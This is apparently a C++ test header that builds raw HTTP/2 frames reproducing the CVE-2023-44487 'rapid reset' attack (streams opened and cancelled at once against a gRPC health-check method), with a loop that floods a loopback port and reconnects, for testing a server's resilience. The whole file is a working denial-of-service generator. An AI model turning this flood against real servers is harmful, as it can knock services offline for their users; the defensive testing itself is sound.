// Hostile HTTP/2 clients at the byte level, for the tests of what a node does with them: the
// opening of a connection followed by streams opened and reset at once (CVE-2023-44487's rapid
// reset), sent in plaintext as fast as a socket takes them.
#pragma once

#include <netinet/in.h>
#include <sys/socket.h>
#include <unistd.h>

#include <atomic>
#include <cstdint>
#include <string>

namespace starling::test {

// The method every stream calls: one each server has.
inline const std::string kHealthCheck = "/grpc.health.v1.Health/Check";

// The client preface and SETTINGS, then `streams` pairs of HEADERS (a gRPC call of `path`) and
// RST_STREAM (CANCEL), each on a new odd stream id from `first_stream` on.
inline std::string rapid_reset_bytes(int streams, uint32_t first_stream = 1,
                                     bool with_preface = true,
                                     const std::string& path = kHealthCheck) {
    std::string bytes = with_preface ? "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" : "";
    const auto frame = [&](uint8_t type, uint8_t flags, uint32_t stream, std::string payload) {
        const uint32_t length = static_cast<uint32_t>(payload.size());
        bytes += {static_cast<char>(length >> 16), static_cast<char>(length >> 8),
                  static_cast<char>(length),       static_cast<char>(type),
                  static_cast<char>(flags),        static_cast<char>(stream >> 24),
                  static_cast<char>(stream >> 16), static_cast<char>(stream >> 8),
                  static_cast<char>(stream)};
        bytes += payload;
    };
    if (with_preface) frame(0x4, 0, 0, "");  // SETTINGS
    // A gRPC call's headers in HPACK, each a literal without indexing (values shorter than 127
    // bytes): POST and http from the static table, then :path, :authority, content-type and te.
    const auto literal = [](std::string name_or_index, const std::string& value) {
        return name_or_index + static_cast<char>(value.size()) + value;
    };
    const std::string headers =
        std::string("\x83\x86") + literal("\x04", path) + literal("\x01", "localhost") +
        literal("\x0f\x10", "application/grpc") + literal(std::string("\x00\x02te", 4), "trailers");
    for (int i = 0; i < streams; i++) {
        const uint32_t stream = first_stream + 2 * static_cast<uint32_t>(i);
        frame(0x1, 0x4, stream, headers);                    // HEADERS, END_HEADERS
        frame(0x3, 0, stream, std::string("\0\0\0\x8", 4));  // RST_STREAM CANCEL
    }
    return bytes;
}

// Connects to 127.0.0.1:port and sends rapid resets until `stop` or until the node closes the
// connection, then connects again; returns the streams sent in all.
inline uint64_t rapid_reset_until(uint16_t port, const std::atomic<bool>& stop) {
    constexpr int kBatch = 500;
    uint64_t sent = 0;
    while (!stop) {
        const int fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
        if (fd < 0) return sent;
        sockaddr_in to{};
        to.sin_family = AF_INET;
        to.sin_port = htons(port);
        to.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
        if (connect(fd, reinterpret_cast<const sockaddr*>(&to), sizeof(to)) != 0) {
            close(fd);
            return sent;
        }
        uint32_t next_stream = 1;
        bool first = true;
        // Stream ids are 31 bits: a connection that lives that long starts over.
        while (!stop && next_stream < (1u << 30)) {
            const std::string bytes = rapid_reset_bytes(kBatch, next_stream, first);
            if (send(fd, bytes.data(), bytes.size(), MSG_NOSIGNAL) !=
                static_cast<ssize_t>(bytes.size()))
                break;
            first = false;
            next_stream += 2 * kBatch;
            sent += kBatch;
        }
        close(fd);
    }
    return sent;
}

}  // namespace starling::test
